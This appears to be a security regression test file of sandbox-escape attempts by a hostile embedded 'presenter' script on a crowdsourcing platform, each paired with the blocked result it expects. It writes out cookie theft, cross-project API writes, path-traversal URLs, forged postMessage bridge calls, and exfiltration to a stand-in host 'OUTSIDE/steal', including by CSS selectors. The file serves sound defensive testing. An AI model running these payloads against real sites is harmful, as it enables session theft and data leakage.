// What hostile presenters try. Each runs inside an async function and leaves what it got in `result`; an exception leaves its name.
// A head says the attack's name and what `result` must be, as JSON: a value, a list of possible values, or null where it does not matter.

/// cookie => "SecurityError"
delete document.cookie; result = document.cookie

/// native cookie => "SecurityError"
result = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)

/// parent document => "SecurityError"
result = parent.document.cookie

/// parent location => "SecurityError"
result = parent.location.href

/// frameElement => "null"
result = String(frameElement)

/// top navigation => "SecurityError"
top.location = 'OUTSIDE/steal'

/// native storage => [true, "SecurityError"]
delete window.localStorage; result = window.localStorage === undefined || localStorage.length

/// indexedDB => "SecurityError"
result = await new Promise(ok => { const r = indexedDB.open('x'); r.onsuccess = () => ok('opened'); r.onerror = () => ok(r.error.name) })

/// caches => "SecurityError"
result = await caches.keys()

/// service worker => "SecurityError"
result = String(await navigator.serviceWorker.register('/static/presenter/prelude.js'))

/// document.domain => "SecurityError"
document.domain = location.hostname

/// another project => 403
result = (await fetch('/api/project/OTHER_ID/newtask')).status

/// another project's task => [403, 404]
result = (await fetch('/api/task/OTHER_TASK0')).status

/// another project by name => 0
result = (await (await fetch('/api/project?short_name=OTHER&all=1')).json()).length

/// all tasks => true
result = (await (await fetch('/api/task?all=1&limit=100')).json()).every(task => task.project_id === MINE_ID)

/// writing elsewhere => 403
result = (await fetch('/api/taskrun', {method: 'POST', body: JSON.stringify({project_id: OTHER_ID, task_id: OTHER_TASK0, info: 1})})).status

/// writing elsewhere, mixed => 403
result = (await fetch('/api/taskrun', {method: 'POST', body: JSON.stringify({project_id: MINE_ID, task_id: OTHER_TASK0, info: 1})})).status

/// writing elsewhere, twice => 403
result = (await fetch('/api/taskrun', {method: 'POST', body: '{"project_id":OTHER_ID,"task_id":OTHER_TASK0,"project_id":MINE_ID,"info":1}'})).status

/// delete => 403
result = (await fetch('/api/task/MINE_TASK0', {method: 'DELETE'})).status

/// dots in the path => true
const b = window.presenterBridge; result = (await Promise.all(['/api/../account/profile', '/api/project/MINE_ID/../../../account/profile',
'/api/%2e%2e/account/profile', '/api/project/MINE_ID%2f..%2fOTHER_ID/newtask', '/api/project/MINE/newtask/../../OTHER_ID/newtask', '\\api\\..\\admin', '//OUTSIDE/api/project',
'http://user@localhost/api/project', 'javascript:1', '/api/newtask'].map(u => b.api('GET', u)))).every(r => r.status === 403)

/// profile over the bridge => 403
result = (await presenterBridge.api('GET', '/account/profile')).status

/// profile directly => "TypeError"
result = await (await fetch('/account/profile', {credentials: 'include'})).text()

/// profile, no-cors => ["", "TypeError"]
result = await (await fetch('/account/profile', {credentials: 'include', mode: 'no-cors'})).text()

/// admin directly => "TypeError"
result = await (await fetch('/admin', {credentials: 'include'})).text()

/// raw write, Origin null => "error"
const f = document.createElement('iframe'); f.srcdoc = ''; document.body.append(f); await new Promise(ok => f.onload = ok);
const x = new (Object.getPrototypeOf(XMLHttpRequest))(); x.open('POST', '/api/taskrun'); x.withCredentials = true;
result = await new Promise(ok => { x.onload = () => ok(x.responseText); x.onerror = () => ok('error'); x.send('{"project_id":OTHER_ID,"task_id":OTHER_TASK0,"info":1}') })

/// raw write, sendBeacon => null
delete navigator.sendBeacon; navigator.sendBeacon('/api/taskrun', '{"project_id":OTHER_ID,"task_id":OTHER_TASK0,"info":1}')

/// images as requests => null
for (const u of ['/account/signout', '/admin', '/api/OTHER_ID/newtask']) { new (document.createElement('img').constructor)().src = u; const s = document.createElement('script'); s.src = u; document.head.append(s) }

/// form post => null
for (const target of ['_top', '_self']) { const f = document.createElement('form'); f.method = 'post'; f.action = '/account/update'; f.target = target;
f.onsubmit = (e) => e.stopPropagation(); document.body.append(f); f.requestSubmit() }

/// form get to other site => null
const f = document.createElement('form'); f.action = 'OUTSIDE/steal'; f.onsubmit = (e) => e.stopPropagation(); document.body.append(f); f.target = '_blank'; f.requestSubmit(); f.target = ''; f.requestSubmit()

/// own pages in frames => false
for (const u of ['/account/profile', '/admin', '/project/OTHER/newtask', '/project/OTHER/newtask?_presenter=1', '/account/profile?_presenter=1', '/api/task/MINE_TASK0']) {
const f = document.createElement('iframe'); f.src = u; document.body.append(f); const o = document.createElement('object'); o.data = u; document.body.append(o) }
await new Promise(ok => setTimeout(ok, 800));
result = Array.from({length: frames.length}, (_, i) => frames[i]).map(f => { try { return f.document.body.textContent } catch (e) { return e.name } }).join().includes('api_key')

/// frame goes to our page => null
location = '/account/signout'

/// frame goes elsewhere => null
location = 'OUTSIDE/steal'

/// meta refresh => null
const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=OUTSIDE/steal'; document.head.append(m)

/// data: URL => null
location = 'data:text/html,<script>parent.postMessage("presenter:hello","*")</scr' + 'ipt>'

/// blob: URL => null
location = URL.createObjectURL(new Blob(['<script>try{parent.document.cookie}catch(e){}</scr' + 'ipt>'], {type: 'text/html'}))

/// javascript: in _top => null
const a = document.createElement('a'); a.href = 'javascript:document.title=1'; a.target = '_top'; document.body.append(a); a.click()

/// javascript: over the bridge => null
open('javascript:alert(1)'); open('data:text/html,x'); open('/account/signout'); open('/admin/users/add/5')

/// base tag => null
const b = document.createElement('base'); b.href = 'OUTSIDE/'; b.target = '_top'; document.head.append(b); const a = document.createElement('a'); a.href = 'steal'; document.body.append(a); a.click()

/// base tag and the API => 200
const b = document.createElement('base'); b.href = 'OUTSIDE/'; document.head.append(b); result = (await presenterBridge.api('GET', '/api/project/MINE/newtask')).status

/// pop-up loop => "SecurityError"
for (let i = 0; i < 50; i++) { open('OUTSIDE/steal'); Object.getPrototypeOf(window).open && 0 } const n = document.createElement('iframe'); document.body.append(n); result = String(n.contentWindow && n.contentWindow.open('OUTSIDE/steal'))

/// history spam => 1
for (let i = 0; i < 40; i++) history.pushState({}, '', '/project/MINE/task/' + i); result = 1

/// false address => 1
history.pushState({}, '', '/account/signin'); history.pushState({}, '', 'OUTSIDE/x'); history.pushState({}, '', '/project/OTHER/task/OTHER_TASK0'); result = 1

/// forged, from a nested frame => "silent"
const f = document.createElement('iframe'); f.srcdoc = '<script>var c = new MessageChannel(); top.postMessage("presenter:hello", "*", [c.port2]); top.postMessage("presenter:go /", "*");'
+ 'c.port1.onmessage = e => parent.postMessage("got", "*"); c.port1.postMessage(JSON.stringify({op: "api", id: 1, method: "GET", url: "/api/project/MINE_ID/newtask"}))</scr' + 'ipt>';
addEventListener('message', e => result = e.data); document.body.append(f); result = 'silent'; await new Promise(ok => setTimeout(ok, 600))

/// wrong shapes => null
const c = new MessageChannel(); for (const m of [null, 1, {}, [], 'x', 'presenter:go', 'presenter:go javascript:alert(1)', 'presenter:go //evil', {op: 'api'}, new Date(), new Map()]) parent.postMessage(m, '*')

/// download => null
for (let i = 0; i < 20; i++) { const a = document.createElement('a'); a.download = 'x' + i; a.href = URL.createObjectURL(new Blob(['x'])); document.body.append(a); a.click() }

/// fullscreen => "TypeError"
await document.documentElement.requestFullscreen()

/// pointer lock => ["asked", "SecurityError", "WrongDocumentError", "NotAllowedError"]
result = 'asked'; await document.documentElement.requestPointerLock()

/// camera => ["NotAllowedError", "NotFoundError"]
result = await navigator.mediaDevices.getUserMedia({video: true}).then(() => 'camera', e => e.name)

/// place => 1
result = await new Promise(ok => navigator.geolocation.getCurrentPosition(() => ok('place'), e => ok(e.code)))

/// close and blur => 1
parent.close(); parent.blur(); top.focus(); result = 1

/// CSS reads the page => null
const s = document.createElement('style'); s.textContent = ':root:has(header a[href]) { background: url(OUTSIDE/steal?header) } input[value] { background: url(OUTSIDE/steal?input) }'; document.head.append(s)

/// alert loop => 1
for (let i = 0; i < 30; i++) alert('buy'); result = 1

/// native alert => "TypeError"
delete window.alert; const n = document.createElement('iframe'); n.srcdoc = '<script>alert(1); print(); confirm(2)</scr' + 'ipt>'; document.body.append(n); window.alert(1)

/// going where the page must not => null
parent.postMessage('presenter:go /account/signout', '*'); parent.postMessage('presenter:go /admin', '*')

/// broadcast => 1
new BroadcastChannel('x').postMessage('hi'); result = 1

/// history.back => 1
history.back(); history.go(-3); result = 1

/// another project's list => 403
result = (await fetch('/api/taskrun?project_id=OTHER_ID')).status

/// another project's list, twice => true
result = (await fetch('/api/task?project_id=MINE_ID&project_id=OTHER_ID')).status === 403 || (await (await fetch('/api/task?project_id=MINE_ID&project_id=OTHER_ID')).json()).every(task => task.project_id === MINE_ID)

/// a key in a list => true
result = (await (await fetch('/api/task?api_key=x')).json()).every(task => task.project_id === MINE_ID)

/// giving a lease back => 200
result = (await fetch('/api/task/MINE_TASK0/release', {method: 'POST', body: '{}'})).status

/// giving back what is another project's => 404
result = (await fetch('/api/task/OTHER_TASK0/release', {method: 'POST', body: '{}'})).status

/// changing the project => 403
result = (await fetch('/api/project/MINE_ID', {method: 'PUT', body: '{"name": "x"}'})).status

/// another volunteer, by external_uid => [400, 401, 403, 415]
result = (await fetch('/api/taskrun', {method: 'POST', body: '{"project_id":MINE_ID,"task_id":MINE_TASK1,"info":1,"external_uid":"somebody"}'})).status

/// another volunteer, by external_uid in the address => 403
result = await fetch('/api/taskrun?external_uid=somebody', {method: 'POST', body: '{"project_id":MINE_ID,"task_id":MINE_TASK2,"info":1,"external_uid":"other"}'}).then(r => r.status === 401 ? 403 : r.status)

/// another volunteer, by user_id => [400, 403, 415]
result = (await fetch('/api/taskrun', {method: 'POST', body: '{"project_id":MINE_ID,"task_id":MINE_TASK1,"info":1,"user_id":1}'})).status

/// headers of its own => 403
const said = {'X-Presenter': 'OTHER_ID', 'X-Volunteer': '1', Authorization: 'x', 'X-Project-Password': 'x'};
result = (await fetch('/api/project/OTHER_ID/newtask', {headers: said})).status

/// accounts over the bridge => true
const all = ['user', 'user/1', 'favorites', 'token', 'token/google', 'category', 'announcement', 'blogpost', 'projectstats', 'auth/project/MINE/token', 'openapi.json'];
result = (await Promise.all(all.map(p => fetch('/api/' + p)))).every(r => r.status === 403)

/// writing anything but answers => true
const all = [['PUT', 'taskrun/1'], ['POST', 'favorites'], ['POST', 'task'], ['POST', 'helpingmaterial'], ['DELETE', 'taskrun/1'], ['PATCH', 'task/MINE_TASK0'], ['POST', 'task/MINE_TASK0/renew'], ['POST', 'project/MINE_ID/withdraw']];
result = (await Promise.all(all.map(([method, p]) => fetch('/api/' + p, {method, body: '{}'})))).every(r => r.status === 403)

/// what the window was called => ""
result = window.name

/// opener => "null"
result = String(window.opener)

/// the stream of its owner => "error"
const s = new EventSource('/project/MINE/events', {withCredentials: true}); result = await new Promise(ok => { s.onmessage = s.onopen = () => ok('open'); s.onerror = () => { s.close(); ok('error') } })

/// a worker of ours => ["SecurityError", "started"]
const w = new Worker('/static/presenter/prelude.js'); result = 'started'; await new Promise(ok => { w.onerror = ok; w.onmessage = () => { result = 'ran'; ok() }; setTimeout(ok, 300) })

/// clipboard => ["NotAllowedError", "TypeError"]
result = await navigator.clipboard.readText()

/// notifications => ["denied", "default"]
result = await Notification.requestPermission()

/// storage access => ["NotAllowedError", "InvalidStateError", "TypeError"]
await document.requestStorageAccess(); result = 'granted'

/// passwords => ["null", "NotAllowedError", "SecurityError"]
result = String(await navigator.credentials.get({password: true}))

/// giving others' tasks back along with one's own => 200
result = (await fetch('/api/task/MINE_TASK2/release', {method: 'POST', body: '{"skip": true, "also": [OTHER_TASK1]}'})).status

/// words that only the page says => "silent"
for (const word of ['presenter:signed-in', 'presenter:saved', 'presenter:restart']) { parent.postMessage(word, '*'); document.dispatchEvent(new CustomEvent(word)) } result = 'silent'

/// operations that there are not => null
const c = new MessageChannel(); parent.postMessage('presenter:hello', '*', [c.port2]); for (const op of ['restart', 'constructor', '__proto__', 'toString', 'open']) c.port1.postMessage(JSON.stringify({op, url: 'javascript:alert(1)'})); result = 1
